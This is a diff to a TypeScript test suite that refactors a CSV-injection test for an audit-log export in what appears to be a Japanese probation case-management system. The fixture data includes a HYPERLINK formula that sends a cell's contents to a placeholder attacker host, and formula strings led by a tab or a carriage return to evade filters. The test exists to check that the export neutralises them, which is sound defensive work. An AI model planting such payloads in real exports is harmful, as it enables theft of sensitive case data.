@@ -1,9 +1,12 @@
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { SensitiveFact } from '../../src/contract/sensitiveFacts.ts';
+import { describe, expect, it } from 'vitest';
 import { recordAudit } from '../../src/db/auditTrail.ts';
+import { demoApi } from '../support/demoApi.ts';
 import { excelLikeCells } from '../support/excelLike.ts';
-import { createCase, type DemoDirectory, demoDirectory } from '../support/factories.ts';
-import { type ApiClient, startTestServer, type TestServer } from '../support/testServer.ts';
+import { createCase } from '../support/factories.ts';
+import { recordOffence } from '../support/offenceCase.ts';
+
+const api = demoApi('auditor', 'hogokansatsu');
+const { auditor, hogokansatsu } = api;
 
 /**
  * CSV injection (OWASP): the auditor's CSV carries reveal reasons typed by users. Reasons starting
@@ -12,18 +15,6 @@ import { type ApiClient, startTestServer, type TestServer } from '../support/tes
  * import, an older version) would have. The export, opened with exceljs the way a spreadsheet opens
  * a CSV (tests/support/excelLike.ts), has no formula, and shows every reason as typed.
  */
-
-let server: TestServer;
-let dir: DemoDirectory;
-let auditor: ApiClient;
-let hogokansatsu: ApiClient;
-
-beforeAll(async () => {
-  server = await startTestServer();
-  dir = await demoDirectory(server.database.db);
-  [auditor, hogokansatsu] = await Promise.all([server.as('auditor'), server.as('hogokansatsu')]);
-});
-afterAll(() => server.close());
 
 const typedReasons = [
   '=HYPERLINK("http://attacker.invalid/?d="&A1,"支援方針の確認")',
@@ -35,33 +26,30 @@ const storedPurposes = ['\t=1+1 タブで始まる', '\r=1+1 改行で始まる'
 
 describe('CSV exports neutralise formula-leading cells', () => {
   it('the audit trail CSV, opened as a spreadsheet, has no formula and shows every reason as typed', async () => {
-    const { caseId, personId } = await createCase(server.database.db, dir, {
+    const { caseId, personId } = await createCase(api.server.database.db, api.dir, {
       stage: 'assessing',
       participants: [{ organization: '鹿児島保護観察所', basis: 'planItem' }],
     });
-    const fact = await hogokansatsu.post<SensitiveFact>('/api/sensitive-facts', {
+    const fact = await recordOffence(hogokansatsu, {
       personId,
       caseId,
-      kind: 'offence',
-      subtype: 'sentenceServed',
       summary: '（試験）窃盗',
       details: '（試験）満期釈放',
     });
-    expect(fact.status).toBe(201);
     for (const reason of typedReasons) {
-      const revealed = await hogokansatsu.post(`/api/sensitive-facts/${fact.body.id}/reveal`, { reason });
+      const revealed = await hogokansatsu.post(`/api/sensitive-facts/${fact.id}/reveal`, { reason });
       expect(revealed.status).toBe(200);
     }
-    await server.database.db.transaction().execute(async (tx) => {
+    await api.server.database.db.transaction().execute(async (tx) => {
       for (const purpose of storedPurposes)
         await recordAudit(
           tx,
-          { tenantId: dir.tenantId, actor: null, ip: null },
+          { tenantId: api.dir.tenantId, actor: null, ip: null },
           { action: 'print', resourceType: 'case', resourceId: caseId, caseId, details: { purpose } },
         );
     });
 
-    const response = await fetch(new URL('/api/audit-events/export?encoding=utf-8', server.url), {
+    const response = await fetch(new URL('/api/audit-events/export?encoding=utf-8', api.server.url), {
       headers: { cookie: auditor.cookie ?? '' },
     });
     expect(response.status).toBe(200);
